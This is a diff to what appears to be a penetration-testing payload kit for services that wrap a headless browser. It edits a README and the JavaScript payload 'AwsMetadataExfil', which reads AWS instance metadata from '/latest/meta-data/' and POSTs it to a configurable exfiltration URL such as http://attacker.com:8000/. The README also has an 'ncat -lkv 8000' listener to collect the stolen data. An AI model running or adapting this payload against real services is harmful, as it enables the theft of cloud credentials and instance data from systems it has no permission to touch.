@@ -4,6 +4,7 @@ This is a useful in the context of a service wrapping a headless browser such as
 the output of the browser is not shown to the attacker.
 
 Replace `EXFILTRATION_URL` with the host and path to exfiltrate data e.g. http://attacker.com:8000/
+or set the `EXFILTRATION_URL` variable of the session with the /sessionpayloads API.
 Change `begin('/latest/meta-data/')` as appropriate to exfiltrate the desired data e.g. `/latest/meta-data/`...
 
 Run a tool such as `ncat` e.g. `ncat -lkv 8000` on the attacker host to capture the exfiltrated data.
@@ -27,7 +28,7 @@ const AwsMetadataExfil = () => {
             console.log(`Origin: ${window.location} body:\n${body}`);
         };
 
-        let EXFILTRATION_URL = "http://xxxx.xxx:xxxxx/";
+        let EXFILTRATION_URL = PayloadVariables.EXFILTRATION_URL || "http://xxxx.xxx:xxxxx/";
         fetch(EXFILTRATION_URL, {
             method: 'POST',
             mode: "no-cors",